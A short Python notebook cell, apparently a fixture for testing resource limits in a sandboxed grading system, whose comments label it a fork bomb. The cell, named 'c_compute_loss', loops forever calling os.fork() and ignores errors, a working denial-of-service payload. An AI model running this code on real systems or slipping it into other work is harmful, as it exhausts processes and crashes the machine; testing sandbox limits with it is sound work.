# why: a fork bomb
# state: limited graded
# cold: yes
# limits: cell_s=4
# %% c_compute_loss
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
